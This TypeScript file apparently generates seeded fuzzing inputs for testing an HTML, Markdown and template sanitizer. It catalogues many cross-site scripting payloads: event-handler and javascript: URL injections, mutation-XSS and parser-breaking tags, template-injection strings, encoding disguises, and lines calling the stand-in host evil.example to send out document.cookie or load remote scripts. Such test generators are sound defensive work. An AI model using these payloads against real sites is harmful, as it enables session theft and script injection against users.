/** What somebody writes who wants a page to run their script, or to call their server. */

/** Reserved: nobody is ever reached there. */
const EVIL = 'evil.example'

/** Numbers from 0 to 1, the same ones for a seed (mulberry32). */
function chance(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
}

type Make = (of: Generator) => string

const CALLS = [
  'tripped(1)',
  'top.tripped(1)',
  "window['trip'+'ped'](1)",
  'alert(document.domain)',
  'alert`1`',
  'confirm(1)',
  'print()',
  "eval('tripped(1)')",
  "setTimeout('tripped(1)')",
  "constructor.constructor('tripped(1)')()",
  `fetch('https://${EVIL}/?'+document.cookie)`,
  `import('https://${EVIL}/x.js')`,
  `new Image().src='//${EVIL}/p'`,
  `navigator.sendBeacon('https://${EVIL}/b')`,
  `new WebSocket('wss://${EVIL}/')`,
  `location='https://${EVIL}/'`,
  `open('https://${EVIL}/')`,
  `document.write('<script src=//${EVIL}/s></'+'script>')`,
]

const EVENTS =
  'onload onerror onclick onmouseover onfocus onpointerenter ontoggle onbegin onstart onanimationstart ontransitionend onscroll onwheel oncopy onpaste onbeforeinput onkeydown onpageshow onhashchange onmessage onslotchange onsecuritypolicyviolation'.split(
    ' ',
  )

const URLS: readonly Make[] = [
  (of) => `javascript:${of.call()}`,
  (of) => `JaVaScRiPt:${of.call()}`,
  (of) => `java\tscript:${of.call()}`,
  (of) => `\u0001javascript:${of.call()}`,
  (of) => `javascript://${EVIL}/%0a${of.call()}`,
  (of) => `&#106;avascript:${of.call()}`,
  (of) => `vbscript:${of.call()}`,
  (of) => `data:text/html,<script>${of.call()}</script>`,
  (of) => `data:text/html;base64,${btoa(`<script>${of.call()}</script>`)}`,
  (of) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${of.call()}'/>`,
  () => `//${EVIL}/x.png`,
  () => `\\\\${EVIL}\\x`,
  () => `https:${EVIL}`,
  () => `https://${EVIL}/x.png`,
  () => `HTTPS://user:pass@${EVIL}:8443/?q=1#f`,
  () => `https://localhost@${EVIL}/`,
  () => `https://${EVIL}/\u202Egpj.exe`,
  () => 'https://еvil.example/',
  (of) => `https://${EVIL}/"${of.event()}="${of.call()}`,
  (of) => `https://${EVIL}/'><img src=x onerror=${of.call()}>`,
  () => `blob:https://${EVIL}/0`,
  () => `view-source:https://${EVIL}/`,
  () => `ftp://${EVIL}/`,
  () => `https://${EVIL}/${'a'.repeat(300)}`,
]

const TAGS: readonly Make[] = [
  (of) => `<script>${of.call()}</script>`,
  (of) => `<script src="${of.url()}"></script>`,
  (of) => `<script type=module>import '${of.url()}'</script>`,
  (of) => `<img src=x onerror=${of.call()}>`,
  (of) => `<img src="${of.url()}" srcset="${of.url()} 2x">`,
  (of) => `<svg ${of.event()}=${of.call()}>`,
  (of) => `<svg><script>${of.call()}</script></svg>`,
  (of) => `<svg><animate onbegin=${of.call()} attributeName=x dur=1s>`,
  (of) => `<svg><use href="${of.url()}#x"/><image href="${of.url()}"/></svg>`,
  (of) => `<svg><a xlink:href="${of.url()}"><text y=9>x</text></a></svg>`,
  (of) => `<svg><foreignObject>${of.tag()}</foreignObject></svg>`,
  (of) =>
    `<math><mtext><mglyph><style><!--</style><img title="--><img src=1 onerror=${of.call()}>">`,
  (of) => `<iframe srcdoc="<script>parent.${of.call()}</script>"></iframe>`,
  (of) => `<iframe src="${of.url()}"></iframe>`,
  (of) => `<object data="${of.url()}"></object><embed src="${of.url()}">`,
  (of) => `<link rel=stylesheet href="${of.url()}"><link rel=preload as=script href="${of.url()}">`,
  (of) => `<link rel=dns-prefetch href="//${EVIL}"><link rel=icon href="${of.url()}">`,
  (of) => `<meta http-equiv=refresh content="0;url=${of.url()}">`,
  (of) => `<base href="${of.url()}">`,
  (of) => `<form action="${of.url()}"><button formaction="${of.url()}">x</button></form>`,
  (of) => `<input autofocus onfocus=${of.call()}>`,
  (of) => `<details open ontoggle=${of.call()}>`,
  (of) => `<video poster="${of.url()}"><source src=x onerror=${of.call()}></video>`,
  (of) => `<audio src="${of.url()}" onerror=${of.call()}>`,
  (of) => `<body ${of.event()}=${of.call()} background="${of.url()}">`,
  (of) => `<style>@import '${of.url()}'; *{background:url(${of.url()})}</style>`,
  (of) => `<div style="background:url('${of.url()}');width:expression(${of.call()})">x</div>`,
  (of) => `<a href="${of.url()}" ${of.event()}="${of.call()}" ping="https://${EVIL}/">x</a>`,
  (of) => `<template shadowrootmode=open>${of.tag()}</template>`,
  (of) => `<noscript><p title="</noscript>${of.tag()}">`,
  (of) => `<x contenteditable tabindex=1 autofocus ${of.event()}=${of.call()}>`,
  (of) => `<marquee onstart=${of.call()}>x</marquee>`,
  (of) => `<scr<script>ipt>${of.call()}</scr</script>ipt>`,
  (of) => `<!--><script>${of.call()}</script-->`,
  (of) => `<![CDATA[${of.tag()}]]><?xml-stylesheet href="${of.url()}"?>`,
  (of) =>
    `<portal src="${of.url()}"><bgsound src="${of.url()}"><frameset ${of.event()}=${of.call()}>`,
  (of) => `<img/${of.event()}\u000C=\u000C${of.call()}/src=x//`,
]

const TEMPLATES: readonly Make[] = [
  (of) => `{@html '${of.tag()}'}`,
  (of) => `{@const x = ${of.call()}}{x}`,
  (of) => `{#if true}${of.tag()}{/if}{#key ${of.call()}}{/key}`,
  (of) => `{${of.call()}}`,
  (of) => `{{${of.call()}}}`,
  (of) => `{{constructor.constructor('${of.call()}')()}}`,
  (of) => `\${${of.call()}}`,
  (of) => `<%= ${of.call()} %>`,
  (of) => `#{${of.call()}} [[${of.call()}]] @(${of.call()})`,
  (of) => `<svelte:element this="script" src="${of.url()}"/><svelte:head>${of.tag()}</svelte:head>`,
  (of) => `<p v-html="'${of.tag()}'" ng-init="${of.call()}" x-init="${of.call()}">`,
  () => '__proto__ constructor hasOwnProperty toString',
  (of) => `{"__proto__":{"innerHTML":"${of.tag()}"}}`,
]

const MARKDOWN: readonly Make[] = [
  (of) => `[x](${of.url()})`,
  (of) => `![x](${of.url()})`,
  (of) => `[![x](${of.url()})](${of.url()})`,
  (of) => `[${of.tag()}](https://${EVIL}/)`,
  (of) => `[https://localhost/](${of.url()} "${of.event()}=${of.call()}")`,
  (of) => `[x]: ${of.url()}\n[x][x]`,
  (of) => `<${of.url()}>`,
  (of) => of.url(),
  (of) => `\`\`\`html"${of.event()}=${of.call()}\n${of.tag()}\n\`\`\``,
  (of) => `\`\`\`html\n${of.tag()}\n\`\`\``,
  (of) => `\`\`${of.tag()}\`\``,
  (of) => `> ${of.tag()}\n> [x](${of.url()})`,
  (of) => `**${of.tag()}** _${of.tag()}_ ~~${of.url()}~~`,
  (of) => `# ${of.tag()}\n| ${of.url()} |\n|--|\n- ${of.tag()}`,
  (of) => `https://${EVIL}/${of.tag()}`,
  (of) => `[**x** \`${of.tag()}\`](${of.url()})`,
]

const BREAKERS = [
  '">',
  "'>",
  '`>',
  '</div></article>',
  '</script>',
  '</textarea></title></style>',
  '-->',
  ']]>',
  '\u2028',
  '\\',
  '%00',
  '\u0000',
  '\r\n\r\n',
]

const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text.replace(/[<>"']/g, (c) => `&#${c.charCodeAt(0)};`),
  (text) => text.replace(/[<>"']/g, (c) => `&#x${c.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replace(/[<>"' ]/g, (c) => encodeURIComponent(c)),
  (text) => text.replace(/[<>"']/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`),
  // NFKC makes ASCII of it.
  (text) => text.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
  (text) => text.replace(/[a-z]/g, (c, i: number) => (i % 2 === 0 ? c.toUpperCase() : c)),
  (text) => text.replace(/[a-z](?=[a-z])/g, '$&\u200B'),
  (text) => `\u202E${text}\u202C`,
  (text) => `\u2067${text}`,
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => text.replaceAll('<', '\u0000<'),
  (text) => text.replaceAll('>', ''),
  (text) => text + text,
]

const DEEPEST = 3
const LONGEST = 600

class Generator {
  readonly #next: () => number
  #depth = 0

  constructor(seed: number) {
    this.#next = chance(seed)
  }

  call(): string {
    return this.#of(CALLS)
  }
  event(): string {
    return this.#of(EVENTS)
  }
  url(): string {
    return this.#made(URLS)
  }
  tag(): string {
    return this.#made(TAGS)
  }

  text(): string {
    const kind = this.#next()
    let text = this.#made(
      kind < 0.4 ? TAGS : kind < 0.65 ? MARKDOWN : kind < 0.8 ? TEMPLATES : URLS,
    )
    if (this.#next() < 0.3) text = this.#of(BREAKERS) + text
    if (this.#next() < 0.4) text = this.#of(DISGUISES)(text)
    if (this.#next() < 0.2) text = `some words ${text} and more`
    return text.slice(0, LONGEST).toWellFormed()
  }

  #of<T>(all: readonly T[]): T {
    const one = all[Math.floor(this.#next() * all.length)]
    if (one === undefined) throw new Error('nothing to choose from')
    return one
  }

  #made(all: readonly Make[]): string {
    if (this.#depth >= DEEPEST) return this.call()
    this.#depth++
    const text = this.#of(all)(this)
    this.#depth--
    return text
  }
}

/** The same texts for the same seed, all different, each of at most 600 UTF-16 units and not blank. */
export function hostileTexts(seed: number, count: number): readonly string[] {
  const of = new Generator(seed)
  const texts = new Set<string>()
  while (texts.size < count) {
    const text = of.text()
    // The second time the same comes, it comes with something behind it.
    texts.add(texts.has(text) ? `${text} ${texts.size}` : text)
  }
  return [...texts]
}
